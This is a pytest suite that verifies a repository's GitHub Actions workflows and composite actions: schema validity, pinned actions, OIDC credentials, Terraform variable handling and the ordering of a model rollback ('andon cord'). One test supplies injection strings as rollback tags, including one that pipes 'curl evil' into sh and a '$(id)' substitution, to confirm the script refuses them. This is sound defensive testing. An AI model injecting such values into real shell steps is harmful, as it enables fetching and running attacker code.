"""The GitHub workflows: valid against GitHub's schema, and doing what the platform promises.

actionlint ships only as a Go binary from GitHub (its PyPI wrapper downloads it at install), so
the files are checked with check-jsonschema's vendored copy of the SchemaStore schemas for
workflows and actions, which needs no network, plus the assertions below.
"""

from __future__ import annotations

import itertools
import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import hcl2
import pytest
import yaml

from tests.build.repo_copy import SANDBOX_ROOT
from tests.lockfiles import DEFAULT_LOCK, locked_version
from tests.workflow_steps import (
    WORKFLOWS,
    actions_checkout,
    checkout_options,
    git,
    github_output,
    load,
    release_tag,
    repository,
    run_script,
    run_step,
    step_script,
)

CHECK_JSONSCHEMA_PEX = SANDBOX_ROOT / "tools" / "check-jsonschema.pex"
ACTIONS = sorted((SANDBOX_ROOT / ".github" / "actions").glob("*/action.yml"))
SETUP_ACTION = SANDBOX_ROOT / ".github" / "actions" / "setup-pants" / "action.yml"
TFVARS_ACTION = SANDBOX_ROOT / ".github" / "actions" / "aws-tfvars" / "action.yml"
ACTION_PINS = SANDBOX_ROOT / ".github" / "ACTION_PINS.md"


def triggers(workflow: dict[Any, Any]) -> dict[str, Any]:
    # YAML 1.1 reads the key `on` as the boolean True.
    on = workflow.get("on", workflow.get(True))
    assert isinstance(on, dict)
    return on


def commands(workflow: dict[Any, Any]) -> str:
    return "\n".join(
        str(step.get("run", "")) for job in workflow["jobs"].values() for step in job["steps"]
    )


def uses(workflow: dict[Any, Any]) -> list[str]:
    return [
        str(step["uses"])
        for job in workflow["jobs"].values()
        for step in job["steps"]
        if "uses" in step
    ]


def test_the_four_workflows_exist() -> None:
    assert sorted(p.name for p in WORKFLOWS.glob("*.yml")) == [
        "andon-cord.yml",
        "explore.yml",
        "main.yml",
        "pull-request.yml",
    ]


def test_no_workflow_runs_a_service_through_pants() -> None:
    """A service is its built artifact (ADR 0011): the deploy job published the serving data and
    built the Bento with `./pants run services/serve:serve`, from the checkout's sources."""
    for path in sorted(WORKFLOWS.glob("*.yml")):
        run = commands(load(path.name))
        assert not re.search(r"pants(?: [^ \n]+)* run services/", run), path.name


def schema_test_id(value: object) -> str:
    """A workflow by its file's name, an action by its directory's."""
    if not isinstance(value, Path):
        return str(value)
    return value.parent.name if value.name == "action.yml" else value.name


@pytest.mark.parametrize(
    ("schema", "path"),
    [
        *(("vendor.github-workflows", p) for p in sorted(WORKFLOWS.glob("*.yml"))),
        *(("vendor.github-actions", p) for p in ACTIONS),
    ],
    ids=schema_test_id,
)
def test_valid_against_github_s_schema(schema: str, path: Path) -> None:
    run = subprocess.run(
        [sys.executable, str(CHECK_JSONSCHEMA_PEX), "--builtin-schema", schema, str(path)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert run.returncode == 0, run.stdout + run.stderr


def test_a_pull_request_runs_lint_check_test_on_what_changed_and_its_dependents() -> None:
    workflow = load("pull-request.yml")
    assert "pull_request" in triggers(workflow)
    run = " ".join(commands(workflow).split())
    assert (
        "./pants --changed-since=origin/main --changed-dependents=transitive lint check test" in run
    )
    # The lock check, on the artifacts the change rebuilds (as .ci/run on every artifact).
    assert "./pants --changed-since=origin/main --changed-dependents=transitive package" in run
    assert "./pants run //:dvc -- status --json | python3 tools/artifacts.py locked" in run
    # The git hooks on the change's files, whether or not its author ran them (.ci/run: every file).
    assert "python3 dist/tools/pre-commit.pex run --from-ref origin/main --to-ref HEAD" in run
    (checkout,) = (
        step
        for job in workflow["jobs"].values()
        for step in job["steps"]
        if str(step.get("uses", "")).startswith("actions/checkout")
    )
    assert checkout["with"]["fetch-depth"] == 0
    assert "./.github/actions/setup-pants" in uses(workflow)
    # Every check after the first runs when one before it failed (a failed test stopped the job
    # before the lock check), as .ci/run reports every failure.
    (job,) = workflow["jobs"].values()
    checks = [step for step in job["steps"] if "./pants" in str(step.get("run", ""))]
    assert len(checks) == 4
    assert [step.get("if") for step in checks[1:]] == ["${{ !cancelled() }}"] * 3


def test_the_pants_caches_are_keyed_on_the_lockfiles() -> None:
    action = yaml.safe_load(SETUP_ACTION.read_text())
    (cache,) = (
        s for s in action["runs"]["steps"] if str(s.get("uses", "")).startswith("actions/cache")
    )
    key = cache["with"]["key"]
    assert "hashFiles(" in key and "3rdparty/python/*.lock" in key
    # An entry is never overwritten: each job and commit saves its own, and restores the newest
    # of its own job first.
    assert "${{ github.job }}" in key and key.endswith("-${{ github.sha }}")
    restore = cache["with"]["restore-keys"].strip().splitlines()
    assert restore[0] == key.removesuffix("${{ github.sha }}")
    assert all(earlier.startswith(later) for earlier, later in itertools.pairwise(restore))
    assert "~/.cache/pants/named_caches" in cache["with"]["path"]


def test_the_torch_wheel_fetched_is_the_one_locked() -> None:
    torch = locked_version(SANDBOX_ROOT / DEFAULT_LOCK, "torch")
    assert f"torch=={torch}" in SETUP_ACTION.read_text()


def terraform_jobs() -> dict[str, dict[str, Any]]:
    """Every workflow job that runs Terraform on the AWS environment, as `<file>:<job>`."""
    return {
        f"{path.name}:{name}": job
        for path in sorted(WORKFLOWS.glob("*.yml"))
        for name, job in load(path.name)["jobs"].items()
        if any("-chdir=infra/envs/aws" in str(step.get("run", "")) for step in job["steps"])
    }


def test_every_terraform_job_writes_the_admin_s_tfvars_before_terraform_runs() -> None:
    """terraform.tfvars is git-ignored: a job without it would plan, and its targeted apply
    deploy, against each variable's default (another region, a VPC range to replace) wherever
    the admin set another. A TF_VAR_ beside the file would be a second home that it overrides."""
    jobs = terraform_jobs()
    assert sorted(jobs) == ["andon-cord.yml:rollback", "main.yml:deploy", "main.yml:terraform-plan"]
    for name, job in jobs.items():
        steps = job["steps"]
        writes = [i for i, s in enumerate(steps) if s.get("uses") == "./.github/actions/aws-tfvars"]
        runs = [i for i, s in enumerate(steps) if "-chdir=infra/envs/aws" in str(s.get("run", ""))]
        assert len(writes) == 1 and writes[0] < runs[0], name
        assert steps[writes[0]]["with"] == {"tfvars": "${{ vars.TERRAFORM_TFVARS }}"}, name
        assert not [key for key in job.get("env", {}) if key.startswith("TF_VAR_")], name


def test_every_terraform_init_reads_the_backend_written_from_the_tfvars() -> None:
    """The CI roles' state permissions are scoped to the environment's terraform_state_*
    variables: an init given the bucket, key or table from anywhere else (a repository variable,
    a literal) would plan against a state they may not read, or an empty one."""
    inits = [
        str(step["run"])
        for job in terraform_jobs().values()
        for step in job["steps"]
        if " init " in str(step.get("run", ""))
    ]
    assert len(inits) == len(terraform_jobs())
    for init in inits:
        assert re.findall(r"-backend-config=\S+", init) == ["-backend-config=backend.hcl"], init
    steps = yaml.safe_load(TFVARS_ACTION.read_text())["runs"]["steps"]
    assert [step["name"] for step in steps] == [
        "Write infra/envs/aws/terraform.tfvars",
        "Write infra/envs/aws/backend.hcl",
    ]
    assert steps[1]["run"] == "./pants run infra:backend -- infra/envs/aws"
    every_file = [*WORKFLOWS.glob("*.yml"), *TFVARS_ACTION.parent.parent.glob("*/action.yml")]
    assert not [path.name for path in every_file if "TF_STATE_" in path.read_text()]


def tfvars_script() -> str:
    (step, _) = yaml.safe_load(TFVARS_ACTION.read_text())["runs"]["steps"]
    return str(step["run"])


def test_the_tfvars_action_writes_the_admin_s_file_as_it_is(tmp_path: Path) -> None:
    example = SANDBOX_ROOT / "infra" / "envs" / "aws" / "example.tfvars"
    (tmp_path / "infra" / "envs" / "aws").mkdir(parents=True)
    run_step(tfvars_script(), tmp_path, {"TFVARS": example.read_text()})
    written = tmp_path / "infra" / "envs" / "aws" / "terraform.tfvars"
    assert hcl2.loads(written.read_text()) == hcl2.loads(example.read_text())


@pytest.mark.parametrize("tfvars", ["", " \n\t\n"], ids=["unset", "blank"])
def test_the_tfvars_action_refuses_an_empty_variable_naming_it(tmp_path: Path, tfvars: str) -> None:
    (tmp_path / "infra" / "envs" / "aws").mkdir(parents=True)
    refused = run_script(tfvars_script(), tmp_path, {"TFVARS": tfvars})
    assert refused.returncode == 1
    assert "TERRAFORM_TFVARS is empty or not set" in refused.stderr
    assert not (tmp_path / "infra" / "envs" / "aws" / "terraform.tfvars").exists()


def test_main_runs_the_full_suite_packages_dvc_status_and_an_oidc_terraform_plan() -> None:
    workflow = load("main.yml")
    assert triggers(workflow)["push"]["branches"] == ["main"]
    run = commands(workflow)
    assert "bash .ci/run" in run  # BUILD checks, package ::, the dvc.lock check, lint check test ::
    assert "dist/services.serve/serve.pex/__main__.py build" in run
    assert "./pants run //:dvc -- status" in run
    plan = workflow["jobs"]["terraform-plan"]
    assert plan["permissions"]["id-token"] == "write"
    plan_steps = [str(s.get("uses", "")) + str(s.get("run", "")) for s in plan["steps"]]
    assert any(s.startswith("aws-actions/configure-aws-credentials") for s in plan_steps)
    assert any("-chdir=infra/envs/aws plan" in s for s in plan_steps)
    # Credentials come from the OIDC role, never from long-lived access keys.
    credential_inputs = [
        key
        for step in plan["steps"]
        if str(step.get("uses", "")).startswith("aws-actions/configure-aws-credentials")
        for key in step.get("with", {})
    ]
    assert "role-to-assume" in credential_inputs
    assert not any("access-key" in key for key in credential_inputs)


def test_the_property_based_tests_explore_nightly_and_on_demand() -> None:
    workflow = load("explore.yml")
    assert set(triggers(workflow)) == {"schedule", "workflow_dispatch"}
    assert [entry["cron"] for entry in triggers(workflow)["schedule"]]
    assert commands(workflow).strip() == "bash .ci/explore"
    assert workflow["permissions"] == {"contents": "read"}


def test_the_andon_cord_is_manual_and_restores_the_previous_promoted_model() -> None:
    workflow = load("andon-cord.yml")
    assert set(triggers(workflow)) == {"workflow_dispatch"}
    assert triggers(workflow)["workflow_dispatch"]["inputs"]["reason"]["required"] is True
    run = commands(workflow)
    assert 'tools/releases.py pick --live="$LIVE" --requested="$REQUESTED"' in run
    assert '-target=module.serve -var="serve_image_digest=$DIGEST"' in run
    assert workflow["permissions"] == {"contents": "read"}
    jobs = workflow["jobs"]
    # AWS credentials and repository write access are never in the same job.
    assert jobs["rollback"]["permissions"] == {"contents": "read", "id-token": "write"}
    assert jobs["record"]["permissions"] == {"contents": "write"}
    assert jobs["record"]["needs"] == ["rollback"]
    # The record job tags the restore and the pull from the rollback job's pick.
    outputs = jobs["rollback"]["outputs"]
    assert outputs == {name: f"${{{{ steps.pick.outputs.{name} }}}}" for name in outputs}
    assert set(outputs) == {"current", "restore"}
    (recorded,) = (step for step in jobs["record"]["steps"] if "run" in step)
    for name in outputs:
        assert recorded["env"][name.upper()] == f"${{{{ needs.rollback.outputs.{name} }}}}"
    assert 'git push --atomic origin "$restored" "$pulled"' in recorded["run"]


def all_workflow_files() -> list[Path]:
    return [*sorted(WORKFLOWS.glob("*.yml")), *ACTIONS]


def steps_of(document: dict[Any, Any]) -> list[dict[str, Any]]:
    if "jobs" in document:
        return [step for job in document["jobs"].values() for step in job.get("steps", [])]
    return list(document["runs"]["steps"])


def test_no_expression_is_pasted_into_a_shell_step_that_takes_user_input() -> None:
    """Inputs (and step outputs derived from them) reach shell steps through env only."""
    for path in all_workflow_files():
        for step in steps_of(yaml.safe_load(path.read_text())):
            script = str(step.get("run", ""))
            for expression in re.findall(r"\$\{\{(.*?)\}\}", script):
                assert expression.strip().startswith("vars."), (path.name, step.get("name"), script)


def test_the_andon_cord_refuses_an_invalid_or_unpromoted_image_tag(tmp_path: Path) -> None:
    root = repository(tmp_path / "repo")
    for image in ("sha-aaa", "sha-bbb"):
        release_tag(root, "promoted", image)
    pick = step_script("andon-cord.yml", "rollback", step_id="pick")
    for bad, message in (
        ('x"; curl evil | sh; "', "is not an image tag"),
        ("$(id)", "is not an image tag"),
        ("-rf", "is not an image tag"),
        ("sha-zzz", "sha-zzz was never promoted"),
    ):
        result = run_script(pick, root, {"LIVE": '["sha-bbb"]', "REQUESTED": bad})
        assert result.returncode == 1, (bad, result.stderr)
        assert result.stderr.startswith("::error::") and message in result.stderr
        assert github_output(root).read_text() == ""  # no outputs on a refusal


def test_every_checkout_drops_its_credentials() -> None:
    checkouts = [
        (path.name, step)
        for path in all_workflow_files()
        for step in steps_of(yaml.safe_load(path.read_text()))
        if str(step.get("uses", "")).startswith("actions/checkout")
    ]
    assert len(checkouts) >= 3, checkouts  # one per workflow at least
    for name, step in checkouts:
        assert step.get("with", {}).get("persist-credentials") is False, name


USES_LINE = re.compile(
    r"^\s*(?:- )?uses: (?P<action>[^@\s]+)@(?P<ref>\S+)(?P<rest>.*)$", re.MULTILINE
)


def third_party_uses() -> list[re.Match[str]]:
    return [
        match
        for path in all_workflow_files()
        for match in USES_LINE.finditer(path.read_text())
        if not match["action"].startswith("./")
    ]


def test_every_action_is_pinned_by_a_commit_sha_with_its_release() -> None:
    uses = third_party_uses()
    assert uses, "no third-party action found: the pattern no longer matches the workflows"
    for use in uses:
        assert re.fullmatch(r"[0-9a-f]{40}", use["ref"]), use[0]
        assert re.fullmatch(r" # v\d+\.\d+\.\d+", use["rest"]), use[0]


def test_one_action_is_pinned_to_one_commit_and_action_pins_md_lists_it() -> None:
    pinned = {
        (use["action"], use["rest"].removeprefix(" # "), use["ref"]) for use in third_party_uses()
    }
    assert len({action for action, _, _ in pinned}) == len(pinned), sorted(pinned)
    rows = re.findall(
        r"^\| `([^`]+)` \| (v[\d.]+) \| `([0-9a-f]{40})` \|", ACTION_PINS.read_text(), re.M
    )
    assert sorted(rows) == sorted(pinned)


def pick_rollback(root: Path, live: str, requested: str = "") -> dict[str, str]:
    """The andon cord's pick step, with `live` the image in service (as its live step reads it
    from SSM and ECR)."""
    pick = step_script("andon-cord.yml", "rollback", step_id="pick")
    return run_step(pick, root, {"LIVE": json.dumps([live]), "REQUESTED": requested})


def test_the_andon_cord_picks_the_newest_promoted_model_before_the_current_one(
    tmp_path: Path,
) -> None:
    """Run the workflow's own selection script against a git repo with promotion tags."""
    root = repository(tmp_path / "repo")
    for day, image in enumerate(["sha-aaa", "sha-bbb", "sha-ccc"], start=1):
        release_tag(root, "promoted", image, day)

    assert pick_rollback(root, "sha-ccc") == {"current": "sha-ccc", "restore": "sha-bbb"}
    assert pick_rollback(root, "sha-ccc", "sha-aaa") == {
        "current": "sha-ccc",
        "restore": "sha-aaa",
    }
    release_tag(root, "rolled-back", "sha-ccc", 4)
    assert pick_rollback(root, "sha-bbb") == {"current": "sha-bbb", "restore": "sha-aaa"}


def test_main_deploys_a_newly_promoted_model_with_the_andon_cord_s_lock() -> None:
    workflow = load("main.yml")
    deploy = workflow["jobs"]["deploy"]
    assert set(deploy["needs"]) == {"build", "terraform-plan"}
    # The job that runs the pipeline cannot write to the repository; the one that can runs
    # nothing but the tag push, after the rollout succeeded.
    assert deploy["permissions"] == {"contents": "read", "id-token": "write"}
    record = workflow["jobs"]["record-promotion"]
    assert record["permissions"] == {"contents": "write"}
    assert record["needs"] == ["deploy"]
    assert record["if"] == "needs.deploy.outputs.deploy == 'true'"
    recorded = str(record["steps"][-1]["run"])
    assert 'tools/releases.py record promoted "$IMAGE_TAG"' in recorded
    assert 'git push origin "$ref"' in recorded
    # The andon cord and a deployment never run at once.
    assert deploy["concurrency"]["group"] == load("andon-cord.yml")["concurrency"]["group"]
    steps = {str(step.get("name", step.get("uses"))): step for step in deploy["steps"]}
    run = "\n".join(str(step.get("run", "")) for step in steps.values())
    order = [
        'aws s3 sync "$MODELS" build/bentoml/models',  # the store the gate compares against
        "./pants run //:main",  # dvc repro, the gate, the Bento
        'aws s3 sync build/bentoml/models "$MODELS"',
        "registry.json",
        "./pants package services/serve:serve",
        'serve.pex/__main__.py publish --model "$MODEL" --to "$SERVING"',  # what the tasks read
        'containerize "$bento"',
        "docker push",
        "aws ecr describe-images",  # the digest the service will run
        '-target=module.serve -var="serve_image_digest=$DIGEST"',
        # Marked served once the service is steady on it (the ECR lifecycle policy keeps it).
        'aws ecr put-image --repository-name "$repository" --image-tag "$SERVED_TAG"',
    ]
    positions = [run.index(fragment) for fragment in order]
    assert positions == sorted(positions)
    deploying = (
        "Publish the serving data",
        "Containerize the Bento and push it to ECR",
        "Roll the image out on ECS",
        "Mark the image as served",
    )
    for name in deploying:
        assert steps[name]["if"] == "steps.release.outputs.deploy == 'true'"


def release(root: Path, registry: dict[str, Any] | None) -> dict[str, str]:
    path = root / "data" / "evaluation" / "registry.json"
    path.unlink(missing_ok=True)
    if registry is not None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(registry))
    return run_step(step_script("main.yml", "deploy", step_id="release"), root, {})


@pytest.mark.parametrize("works", [True, False])
def test_the_deploy_job_reads_each_address_and_fails_when_terraform_cannot(
    tmp_path: Path, works: bool
) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    pants = root / "pants"
    # A stand-in for `./pants run infra:terraform -- ... output -raw NAME`: prints NAME's value.
    pants.write_text(
        '#!/bin/sh\nfor last; do :; done\necho "$last-value"\n'
        if works
        else "#!/bin/sh\necho 'Error: no state' >&2\nexit 1\n"
    )
    pants.chmod(0o755)
    read = run_script(step_script("main.yml", "deploy", step_id="aws"), root, {})
    if works:
        assert read.returncode == 0, read.stderr
        assert github_output(root).read_text().split() == [
            "ecr=ecr_repository_url-value",
            "models=model_store_url-value",
            "dvc=dvc_remote_url-value",
            "serving=serving_data_url-value",
        ]
    else:
        # Before, the step wrote empty addresses and passed; a later step failed on them.
        assert read.returncode != 0
        assert github_output(root).read_text() == ""


def test_only_a_new_promotion_is_deployed(tmp_path: Path) -> None:
    root = repository(tmp_path / "repo")
    kept = {"promoted": None, "decision": {"reason": "not promoted: torch does not beat"}}
    new = {"promoted": "flight-delay:abc123", "decision": {"reason": "promoted torch"}}

    assert release(root, None) == {"deploy": "false"}  # evaluate did not run
    assert release(root, kept) == {"deploy": "false"}
    assert release(root, new) == {
        "deploy": "true",
        "image_tag": "flight-delay-abc123",
        "served_tag": "served-flight-delay-abc123",
        "model": "flight-delay:abc123",
    }
    release_tag(root, "promoted", "flight-delay-abc123")
    assert release(root, new) == {"deploy": "false"}  # deployed already
    git(root, "tag", "-d", "promoted/flight-delay-abc123")
    release_tag(root, "rolled-back", "flight-delay-abc123")
    assert release(root, new) == {"deploy": "false"}  # pulled by the andon cord


def test_the_andon_cord_rolls_back_to_what_the_deploy_job_recorded(tmp_path: Path) -> None:
    """The chain on a real remote, each job in a checkout made as its workflow's checkout step
    makes it: three deployments push their tags, the andon cord restores the first on request,
    and its record job tags that restore and the third rolled back, so that a second pull pulls
    the first (the one in service) and restores the second; a third pull, of a fourth deployment
    not recorded yet, pulls the fourth."""
    origin = tmp_path / "origin.git"
    git(tmp_path, "init", "-q", "--bare", str(origin))
    developer = tmp_path / "developer"
    git(tmp_path, "clone", "-q", str(origin), str(developer))
    git(developer, "commit", "-q", "--allow-empty", "-m", "first")
    git(developer, "push", "-q", "origin", "HEAD")
    record = step_script("main.yml", "record-promotion", name="Record the promotion")

    def deploy(day: int, version: str) -> None:
        """main.yml's record-promotion job, after the rollout of `version`."""
        ci = actions_checkout(
            origin, tmp_path / f"ci-{version}", checkout_options("main.yml", "record-promotion")
        )
        env = {
            "IMAGE_TAG": f"flight-delay-{version}",
            "MODEL": f"flight-delay:{version}",
            "GIT_COMMITTER_DATE": f"2026-01-{day:02d}T00:00:00Z",
        }
        run_step(record, ci, env)

    for day, version in enumerate(["first", "second", "third"], start=1):
        deploy(day, version)

    def pull(day: int, live: str, requested: str = "") -> dict[str, str]:
        """The andon cord's pick, then its record job, each in its job's checkout."""
        andon = actions_checkout(
            origin, tmp_path / f"andon-{day}", checkout_options("andon-cord.yml", "rollback")
        )
        picked = pick_rollback(andon, live, requested)
        # Before, the record job's checkout held no tags, so recording refused the current image
        # as never promoted and no rollback was ever recorded.
        recorder = actions_checkout(
            origin, tmp_path / f"record-{day}", checkout_options("andon-cord.yml", "record")
        )
        recorded = run_script(
            step_script("andon-cord.yml", "record", name="Record the rollback"),
            recorder,
            {
                "CURRENT": picked["current"],
                "RESTORE": picked["restore"],
                "REASON": "late flights",
                "GITHUB_ACTOR": "oncall",
                "GIT_COMMITTER_DATE": f"2026-01-{day:02d}T00:00:00Z",
            },
        )
        assert recorded.returncode == 0, recorded.stdout + recorded.stderr
        return picked

    andon = actions_checkout(
        origin, tmp_path / "andon", checkout_options("andon-cord.yml", "rollback")
    )
    assert git(andon, "tag", "--list", "promoted/*").split() == [
        "promoted/flight-delay-first",
        "promoted/flight-delay-second",
        "promoted/flight-delay-third",
    ]
    assert (
        git(andon, "cat-file", "-p", "promoted/flight-delay-third")
        .rstrip()
        .endswith("deployed flight-delay:third")
    )
    assert pick_rollback(andon, "flight-delay-third") == {
        "current": "flight-delay-third",
        "restore": "flight-delay-second",
    }

    assert pull(4, "flight-delay-third", "flight-delay-first") == {
        "current": "flight-delay-third",
        "restore": "flight-delay-first",
    }
    assert git(origin, "tag", "--list", "restored/*", "rolled-back/*").split() == [
        "restored/flight-delay-first/20260104T000000Z",
        "rolled-back/flight-delay-third",
    ]
    assert "andon cord by oncall: late flights" in git(
        origin, "cat-file", "-p", "rolled-back/flight-delay-third"
    )
    assert "in place of flight-delay-third: late flights" in git(
        origin, "cat-file", "-p", "restored/flight-delay-first/20260104T000000Z"
    )
    # Before, the second pull took the newest promotion not rolled back (second) to be in
    # service: it re-deployed the first, already serving, and barred the second for good.
    assert pull(5, "flight-delay-first") == {
        "current": "flight-delay-first",
        "restore": "flight-delay-second",
    }
    assert git(origin, "tag", "--list", "rolled-back/*").split() == [
        "rolled-back/flight-delay-first",
        "rolled-back/flight-delay-third",
    ]
    # The fourth is rolled out and the cord pulled before its record-promotion job ran. Before,
    # the cord took the second (the newest tag) as in service and barred it, and the fourth
    # stayed recorded as promoted and in service.
    assert pull(6, "flight-delay-fourth") == {
        "current": "flight-delay-fourth",
        "restore": "flight-delay-second",
    }
    deploy(7, "fourth")  # the late record-promotion job still pushes its tag
    assert git(origin, "tag", "--list", "rolled-back/*").split() == [
        "rolled-back/flight-delay-first",
        "rolled-back/flight-delay-fourth",
        "rolled-back/flight-delay-third",
    ]
    andon = actions_checkout(
        origin, tmp_path / "andon-8", checkout_options("andon-cord.yml", "rollback")
    )
    last = run_script(
        step_script("andon-cord.yml", "rollback", step_id="pick"),
        andon,
        {"LIVE": '["flight-delay-second"]', "REQUESTED": ""},
    )
    assert last.returncode == 1
    assert "no promoted model served before flight-delay-second is left" in last.stderr
